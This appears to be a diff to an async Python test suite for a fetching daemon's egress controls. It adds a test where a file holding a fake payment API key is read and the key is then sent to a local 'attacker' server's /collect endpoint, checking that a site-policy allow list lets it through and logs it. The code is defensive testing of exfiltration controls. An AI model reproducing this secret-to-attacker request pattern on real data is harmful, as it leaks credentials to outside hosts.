@@ -229,7 +229,20 @@ async def test_a_host_the_user_allowed_gets_it_and_it_is_logged(tmp_path: Path, 
         assert body["ok"] is True, body
         assert attacker.hits == [f"/collect?k={TOKEN}"]
         ev = (await status(d))["exits"]["events"][0]
-        assert ev["action"] == "let through: host allowed by TRAWL_EXIT_ALLOW_HOSTS" and ev["host"] == "127.0.0.1"
+        assert ev["action"].startswith("let through: host allowed by the user") and ev["host"] == "127.0.0.1"
+
+
+async def test_a_host_on_the_site_policy_allow_list_is_allowed(tmp_path: Path, attacker: Server) -> None:
+    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
+    (tmp_path / "state").mkdir(mode=0o700)
+    (tmp_path / "state" / "site-policy.json").write_text(json.dumps(
+        {"mode": "allow_all_except_denied", "allow": ["127.0.0.1"], "deny": []}))
+    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
+        await fetch(d, str(tmp_path / "secrets.md"))
+        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
+        assert body["ok"] is True, body
+        ev = (await status(d))["exits"]["events"][0]
+        assert ev["action"].startswith("let through: host allowed by the user")
 
 
 def _bench() -> tuple[list[tuple[str, str, str]], list[str]]:
